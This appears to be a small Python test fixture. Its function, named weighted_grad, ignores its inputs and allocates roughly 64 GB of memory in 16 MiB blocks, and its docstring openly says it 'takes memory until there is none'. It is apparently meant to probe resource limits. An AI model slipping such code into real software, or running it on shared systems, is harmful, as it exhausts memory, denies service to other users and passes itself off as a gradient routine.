"""Takes memory until there is none.
It must get: memory.
"""

HELD = []


def weighted_grad(f, x, v):
    while len(HELD) < 4000:
        HELD.append(bytearray(16 << 20))
